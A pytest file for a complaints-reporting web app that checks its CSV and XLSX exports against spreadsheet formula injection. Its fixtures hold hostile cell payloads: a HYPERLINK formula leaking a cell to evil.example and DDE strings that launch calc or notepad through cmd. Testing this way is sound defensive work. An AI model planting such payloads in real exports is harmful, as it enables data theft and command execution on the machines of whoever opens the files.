"""No export runs what people typed (security review, finding 5: CSV and XLSX injection).

A rejection reason, a LAPOR! id or a category or unit name that begins like a
formula is written as text: in CSV behind OWASP's single quote, in XLSX as a
string cell behind the same quote. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select

from complaints import workflow
from complaints.extensions import db
from complaints.models import Unit
from complaints.workflow import Actor
from tests.conftest import Cast, MakeComplaint, category
from tests.staff_helpers import signed_in

PERIOD = "from=2026-01-01&to=2026-12-31"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik untuk detail")'
OTHER_REASON = "-2+3+cmd|' /C calc'!A0"
LAPOR_IDS = ("=2+5", "+6281234567890", "-2+3", "@SUM(1+1)", "\t=3+4", "\r=cmd|' /C calc'!A0")
CATEGORY_NAME = "=cmd|' /C calc'!A0"
UNIT_NAME = "@SUM(1+9)*cmd|' /C notepad'!A0"
CATEGORY_CODE = "-waste"
HOSTILE_TEXTS = (REASON, OTHER_REASON, *LAPOR_IDS, CATEGORY_NAME, UNIT_NAME)


@pytest.fixture
def hostile_complaints(make_complaint: MakeComplaint) -> None:
    actor = Actor.system("test")
    for reason in (REASON, OTHER_REASON):
        complaint = make_complaint(description=f"{reason} jalan rusak di desa Tunggulo")
        workflow.reject_complaint(complaint, actor, reason)
    for lapor_id in LAPOR_IDS:
        make_complaint(status="verified", channel="lapor", lapor_id=lapor_id)
    make_complaint(status="closed", category_code="waste")
    road = category("road-damage")
    road.name_id = road.name_en = CATEGORY_NAME
    category("waste").code = CATEGORY_CODE
    unit = db.session.scalars(select(Unit).where(Unit.id == road.default_unit_id)).one()
    unit.name = UNIT_NAME
    db.session.commit()


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_is_inert(text: str) -> set[str]:
    """Every cell of the CSV: none could start a formula, except a number."""
    cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    for cell in cells:
        assert is_number(cell) or not cell.startswith(FORMULA_STARTS), repr(cell)
    return cells


def assert_xlsx_is_inert(content: bytes) -> set[Any]:
    """Every cell of every sheet: no formula, and no text that could start one."""
    book = load_workbook(io.BytesIO(content))
    values: set[Any] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), repr(cell.value)
                values.add(cell.value)
    return values


def assert_hostile_texts_are_quoted(cells: set[Any], texts: tuple[str, ...]) -> None:
    # XML reads a carriage return back as a line feed: compare them as one.
    found = {str(cell).replace("\r", "\n") for cell in cells}
    for text in texts:
        assert f"'{text}".replace("\r", "\n") in found, (text, sorted(found))


def test_staff_downloads_write_hostile_text_as_quoted_text(
    app: Flask, cast: Cast, hostile_complaints: None
) -> None:
    client = signed_in(app, cast.admin.email)

    figures = client.get(f"/staff/reports/figures.csv?{PERIOD}")
    assert figures.status_code == 200
    figure_cells = assert_csv_is_inert(figures.get_data(as_text=True))
    assert_hostile_texts_are_quoted(figure_cells, (REASON, OTHER_REASON, CATEGORY_NAME, UNIT_NAME))
    assert f"'{CATEGORY_CODE}" in figure_cells

    listed = client.get(f"/staff/reports/complaints.csv?{PERIOD}")
    assert listed.status_code == 200
    assert_hostile_texts_are_quoted(assert_csv_is_inert(listed.get_data(as_text=True)), LAPOR_IDS)

    workbook = client.get(f"/staff/reports/report.xlsx?{PERIOD}")
    assert workbook.status_code == 200
    values = assert_xlsx_is_inert(workbook.data)
    assert_hostile_texts_are_quoted(values, HOSTILE_TEXTS)


def test_the_report_command_writes_hostile_text_as_quoted_text(
    app_ctx: Flask, tmp_path: Path, hostile_complaints: None
) -> None:
    runner = app_ctx.test_cli_runner()
    for kind in ("csv", "xlsx"):
        out = tmp_path / f"report.{kind}"
        args = ["report", "--from", "2026-01-01", "--to", "2026-12-31", "--format", kind]
        result = runner.invoke(args=[*args, "--out", str(out)])
        assert result.exit_code == 0, result.output

    cells = assert_csv_is_inert((tmp_path / "report.csv").read_text(encoding="utf-8"))
    assert_hostile_texts_are_quoted(cells, (REASON, CATEGORY_NAME, UNIT_NAME))
    values = assert_xlsx_is_inert((tmp_path / "report.xlsx").read_bytes())
    assert_hostile_texts_are_quoted(values, HOSTILE_TEXTS)
    # Numbers stay numbers: the nine complaints received, counted as a number.
    assert "9 received" in result.output and 9 in values


def test_numbers_stay_numbers_and_only_text_is_quoted() -> None:
    from complaints.reports.exports import csv_text, formula_safe

    assert csv_text(-3) == "-3" and csv_text(-0.5) == "-0.5"
    assert formula_safe("-3") == "'-3"  # text that looks like a number is still text
    assert formula_safe("Jalan rusak") == "Jalan rusak"
    assert formula_safe("ADU-7K3Q-9M2X") == "ADU-7K3Q-9M2X"
